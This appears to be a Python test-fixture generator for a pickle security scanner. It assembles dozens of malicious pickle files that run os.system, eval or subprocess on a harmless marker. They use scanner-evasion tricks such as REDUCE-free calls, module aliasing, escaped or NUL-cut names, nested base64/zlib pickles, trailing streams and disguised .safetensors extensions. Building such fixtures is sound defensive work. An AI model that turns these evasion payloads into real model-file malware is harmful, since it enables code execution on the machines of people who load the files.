"""One pickle per way to run code. Every payload only prints the marker."""
import base64
import pickle
import zlib

from .asm import asm
from .fixture import HAND, MARKER, Fixture, call_p0, call_p4, evil_p0, evil_p4

RUN = f'__import__("os").system("{MARKER}")'


def text(value):
    return ('SHORT_BINUNICODE', value)


def name(module, attribute):
    """STACK_GLOBAL of two literals."""
    return asm(text(module), text(attribute), 'STACK_GLOBAL')


OS = name('posixpath', 'os')  # the module object itself, by way of a module that imported it
SYSTEM = name('os', 'system')
NAMESPACE = asm(name('argparse', 'Namespace'), 'EMPTY_TUPLE', 'NEWOBJ')


def planted(method):
    """A namespace object whose attribute `method` is os.system."""
    return NAMESPACE + asm('EMPTY_DICT', text(method), SYSTEM, 'SETITEM', 'BUILD')


def p4(*program):
    return asm('PROTO 4', *program, 'STOP')


CALLS = [
    ('global-reduce-p0', evil_p0(), 'GLOBAL and REDUCE, protocol 0.'),
    ('stack-global-p4', evil_p4(), 'STACK_GLOBAL and REDUCE, protocol 4.'),
    ('inst', asm('MARK', ('STRING', MARKER), 'INST os system', 'STOP'), 'INST calls a function.'),
    ('obj', asm('MARK', 'GLOBAL os system', ('UNICODE', MARKER), 'OBJ', 'STOP'), 'OBJ calls a function.'),
    ('newobj-map-tuple', p4(name('builtins', 'tuple'), name('builtins', 'map'), SYSTEM, 'EMPTY_LIST', text(MARKER), 'APPEND', 'TUPLE2', 'NEWOBJ', 'TUPLE1', 'NEWOBJ'),
     'No REDUCE: map is built by NEWOBJ and run by the tuple built from it.'),
    ('newobj-ex-map', p4(name('builtins', 'frozenset'), name('builtins', 'map'), SYSTEM, 'EMPTY_LIST', text(MARKER), 'APPEND', 'TUPLE2', 'EMPTY_DICT', 'NEWOBJ_EX', 'TUPLE1', 'EMPTY_DICT', 'NEWOBJ_EX'),
     'No REDUCE: the same with NEWOBJ_EX.'),
    ('build-setstate', p4(planted('__setstate__'), text(MARKER), 'BUILD'), 'No REDUCE: BUILD calls a planted __setstate__.'),
    ('append-attribute', p4(planted('append'), text(MARKER), 'APPEND'), 'No REDUCE: APPEND calls a planted append.'),
    ('appends-attribute', p4(planted('append'), 'MARK', text(MARKER), 'APPENDS'), 'No REDUCE: APPENDS calls a planted append.'),
    ('additems-attribute', p4(planted('add'), 'MARK', text(MARKER), 'ADDITEMS'), 'No REDUCE: ADDITEMS calls a planted add.'),
    ('setitem-class-hook', p4(name('argparse', 'Namespace'), 'NONE', 'EMPTY_DICT', text('__setitem__'), name('builtins', 'eval'), 'SETITEM', 'TUPLE2', 'BUILD',
                              'EMPTY_TUPLE', 'NEWOBJ', text(RUN), 'EMPTY_DICT', 'SETITEM'), 'No REDUCE: __setitem__ is planted in an imported class, SETITEM calls it.'),
    ('setitem-sys-modules', p4(name('sys', 'modules'), text('statistics'), OS, 'SETITEM', 'POP', name('statistics', 'system'), text(MARKER), 'TUPLE1', 'REDUCE'),
     'sys.modules is changed, so that a harmless name means another module.'),
    ('extension-registered', p4(name('copyreg', '_inverted_registry'), ('BININT', 240), text('os'), text('system'), 'TUPLE2', 'SETITEM', 'POP', 'EXT1 240', text(MARKER), 'TUPLE1', 'REDUCE'),
     'The pickle registers its own extension code and calls it.'),
    ('popped-call', p4(call_p4(), 'POP', 'EMPTY_DICT'), 'The result of the call is thrown away; what is left is an empty dict.'),
    ('monkeypatch', p4(name('json', 'decoder'), 'NONE', 'EMPTY_DICT', text('JSONDecoder'), SYSTEM, 'SETITEM', 'TUPLE2', 'BUILD', 'POP', 'EMPTY_DICT'),
     'BUILD writes an attribute of an imported module; what was written is called later by somebody else.'),
]

NAMES = [
    ('memo-decoys', asm('PROTO 2', 'UNICODE math', 'BINPUT 0', 'POP', 'UNICODE os', ('PUT', '0'), 'POP', 'UNICODE sqrt', 'BINPUT 1', 'POP', 'UNICODE system', 'LONG_BINPUT 1', 'POP',
                        'BINGET 0', ('GET', '1'), 'STACK_GLOBAL', ('UNICODE', MARKER), 'TUPLE1', 'REDUCE', 'STOP'), 'Names come from the memo, whose slots are filled twice.'),
    ('computed-join', p4(name('builtins', 'getattr'), text(''), text('join'), 'TUPLE2', 'REDUCE', 'EMPTY_LIST', 'MARK', text('o'), text('s'), 'APPENDS', 'TUPLE1', 'REDUCE',
                         text('system'), 'STACK_GLOBAL', text(MARKER), 'TUPLE1', 'REDUCE'), 'The name of the module is joined from letters.'),
    ('computed-concat', p4(name('operator', 'add'), text('o'), text('s'), 'TUPLE2', 'REDUCE', text('system'), 'STACK_GLOBAL', text(MARKER), 'TUPLE1', 'REDUCE'),
     'The name of the module is a sum.'),
    ('attrgetter', p4(name('operator', 'attrgetter'), text('system'), 'TUPLE1', 'REDUCE', OS, 'TUPLE1', 'REDUCE', text(MARKER), 'TUPLE1', 'REDUCE'), 'operator.attrgetter finds the function.'),
    ('methodcaller', p4(name('operator', 'methodcaller'), text('system'), text(MARKER), 'TUPLE2', 'REDUCE', OS, 'TUPLE1', 'REDUCE'), 'operator.methodcaller calls it.'),
    ('partial', p4(name('functools', 'partial'), SYSTEM, text(MARKER), 'TUPLE2', 'REDUCE', 'EMPTY_TUPLE', 'REDUCE'), 'functools.partial holds the function, a second call runs it.'),
    ('import-module', p4(name('builtins', 'getattr'), name('importlib', 'import_module'), text('os'), 'TUPLE1', 'REDUCE', text('system'), 'TUPLE2', 'REDUCE', text(MARKER), 'TUPLE1', 'REDUCE'),
     'import_module and getattr find the function.'),
    ('dotted-p4', p4(name('random', '_os.system'), text(MARKER), 'TUPLE1', 'REDUCE'), 'A dotted name walks from a harmless module to os.'),
    ('module-object', p4(name('builtins', 'getattr'), OS, text('system'), 'TUPLE2', 'REDUCE', text(MARKER), 'TUPLE1', 'REDUCE'), 'A module is imported as an attribute of another one.'),
    ('nul-in-name', asm(('GLOBAL', (b'os\0hidden', b'system')), 'MARK', ('UNICODE', MARKER), 'TUPLE', 'REDUCE', 'STOP'), 'Python 3.11 to 3.13 cut the module name at the NUL.'),
    ('py2-builtin', asm('PROTO 2', 'GLOBAL __builtin__ eval', ('BINUNICODE', RUN), 'TUPLE1', 'REDUCE', 'STOP'), 'A Python 2 module name, mapped to builtins below protocol 3.'),
    ('py2-commands', asm('GLOBAL commands getoutput', 'MARK', ('UNICODE', MARKER), 'TUPLE', 'REDUCE', 'STOP'), 'A Python 2 module name, mapped to subprocess.'),
    ('proto-flip', asm('PROTO 4', 'PROTO 2', 'GLOBAL __builtin__ eval', ('BINUNICODE', RUN), 'TUPLE1', 'REDUCE', 'STOP'), 'A second PROTO turns the mapping of Python 2 names on again.'),
    ('escaped-text', asm(('UNICODE', b'\\u006f\\u0073'), ('UNICODE', b'sys\\u0074em'), 'STACK_GLOBAL', ('UNICODE', MARKER), 'TUPLE1', 'REDUCE', 'STOP'), 'Names are written with Unicode escapes.'),
    ('escaped-string', asm(('STRING', b"'\\x6f\\163'"), ('STRING', b"'sys\\x74em'"), 'STACK_GLOBAL', ('STRING', MARKER), 'TUPLE1', 'REDUCE', 'STOP'), 'Names are written with byte escapes.'),
]


def frame_straddle():
    """A GLOBAL that begins inside a frame and ends outside: a stream reader drops the beginning of the line."""
    head = asm(('GLOBAL', (b'mac', b'')))[:4]  # the opcode and 'mac', all that the frame holds
    rest = b'os\nsystem\n' + asm('MARK', ('UNICODE', MARKER), 'TUPLE', 'REDUCE', 'STOP')
    return asm('PROTO 4', ('FRAME', len(head))) + head + rest


def nested(*wrapped):
    """pickle.loads of what the program leaves on the stack."""
    return p4(name('pickle', 'loads'), *wrapped, 'TUPLE1', 'REDUCE')


INNER = evil_p4()
PLAIN = pickle.dumps({'weights': [1, 2, 3]}, 2)

STREAMS = [
    ('frame-straddle', frame_straddle(), 'A GLOBAL crosses the end of its frame: Python versions read different programs.', 'stream'),
    ('second-stream', PLAIN + evil_p0(), 'A plain pickle, then another one that runs a command.', 'streams'),
    ('junk-after-stop', evil_p0() + b'\xff\xfejunk' * 4, 'Junk follows the STOP of the pickle.', 'pickle'),
    ('junk-between', PLAIN + b'\xff\xff\xff\xff' + evil_p4(), 'Junk, then a second pickle.', None),
    ('trailing-at-512', PLAIN.ljust(512, b'\0') + evil_p4(), 'A second pickle after zeros, at offset 512.', 'at-512'),
    ('broken-tail', asm('PROTO 4') + call_p4() + b'\xff\xff\xff', 'The payload runs before the broken end is reached.', 'pickle'),
    ('missing-stop', asm('PROTO 4') + call_p4(), 'The file ends without a STOP, after the payload.', 'pickle'),
    ('broken-before', b'I0x10\n' + call_p0() + asm('STOP'), 'A number that pickletools refuses and Python accepts, then the payload.', 'pickle'),
    ('nested-bytes', nested(('SHORT_BINBYTES', INNER)), 'pickle.loads of bytes.', 'pickle'),
    ('nested-base64', nested(name('base64', 'b64decode'), text(base64.b64encode(INNER).decode()), 'TUPLE1', 'REDUCE'), 'pickle.loads of decoded base64.', 'pickle'),
    ('nested-zlib', nested(name('zlib', 'decompress'), ('SHORT_BINBYTES', zlib.compress(INNER, 9)), 'TUPLE1', 'REDUCE'), 'pickle.loads of inflated bytes.', 'pickle'),
    ('nested-latin1', nested(name('_codecs', 'encode'), text(INNER.decode('latin-1')), text('latin1'), 'TUPLE2', 'REDUCE'), 'pickle.loads of text encoded as latin-1.', 'pickle'),
    ('nested-twice', nested(('SHORT_BINBYTES', nested(('SHORT_BINBYTES', INNER)))), 'pickle.loads of pickle.loads.', 'pickle'),
]

SUSPICIOUS = [
    ('extension-unregistered', p4('EXT1 5', text('x'), 'TUPLE1', 'REDUCE'), 'A call through an extension code of the loading process.'),
    ('persistent-id', asm('PROTO 4', text('some id'), 'BINPERSID', 'STOP'), 'An object that the loading program must supply.'),
    ('import-only', p4(SYSTEM, 'POP', 'EMPTY_DICT'), 'os.system is imported and dropped, never called.'),
    ('expansion', p4('EMPTY_TUPLE', *['DUP', 'TUPLE2'] * 40), 'Forty levels of tuples that hold the one before twice.'),
    ('unknown-call', p4(name('somepackage.loading', 'build'), text('x'), 'TUPLE1', 'REDUCE'), 'A function of an unknown package is called.'),
]


def fixtures():
    for kind in (CALLS, NAMES):
        for file, data, shows in kind:
            yield Fixture(f'malicious/{file}.pkl', data, HAND, shows, 'malicious', None if file == 'monkeypatch' else 'pickle')
    for file, data, shows, proof in STREAMS:
        yield Fixture(f'malicious/{file}.pkl', data, HAND, shows, 'malicious', proof)
    for file, data, shows in SUSPICIOUS:
        yield Fixture(f'malicious/{file}.pkl', data, HAND, shows, 'suspicious')
    yield Fixture('malicious/UPPER.PKL', evil_p4(), HAND, 'An extension in capitals.', 'malicious', 'pickle')
    yield Fixture('malicious/no-extension', evil_p0(), HAND, 'No extension at all.', 'malicious', 'pickle')
    yield Fixture('malicious/wrong-extension.safetensors', evil_p4(), HAND, 'A pickle with the extension of a safe format.', 'malicious', 'pickle')
